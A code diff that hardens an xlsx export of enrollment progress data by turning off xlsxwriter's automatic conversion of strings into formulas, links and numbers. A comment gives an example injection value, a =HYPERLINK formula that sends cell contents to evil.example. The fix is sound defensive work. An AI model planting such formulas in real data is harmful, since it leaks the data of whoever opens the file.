@@ -15,6 +15,12 @@ PROGRESS_HEADERS = [_l("No."), _l("Full name"), _l("ID number"), _l("Institution
                     _l("Procedure"), _l("Enrollment state"), _l("Submitted at"), _l("Outcome")]
 RESULT = {"pass": _l("Passed"), "fail": _l("Failed")}
 
+# Every spreadsheet we write: text is written as text. A physician named
+# =HYPERLINK("http://evil.example/?d="&C3,"详情") must stay a name, not become a live formula
+# (nor a link, nor a number) in the spreadsheet of whoever opens the file.
+SAFE_WRITING = {"strings_to_formulas": False, "strings_to_urls": False,
+                "strings_to_numbers": False}
+
 
 def progress_rows(session, enrollment_ids_query, chunk=2000):
     """Yield one row per enrollment; ``enrollment_ids_query`` is a scoped, filtered select."""
@@ -41,7 +47,7 @@ def progress_rows(session, enrollment_ids_query, chunk=2000):
 
 
 def write_progress(path, rows):
-    book = xlsxwriter.Workbook(str(path), {"constant_memory": True})
+    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, **SAFE_WRITING})
     sheet = book.add_worksheet(_("Enrollment progress"))
     bold = book.add_format({"bold": True, "bg_color": "#DDEBF7"})
     sheet.write_row(0, 0, [str(header) for header in PROGRESS_HEADERS], bold)
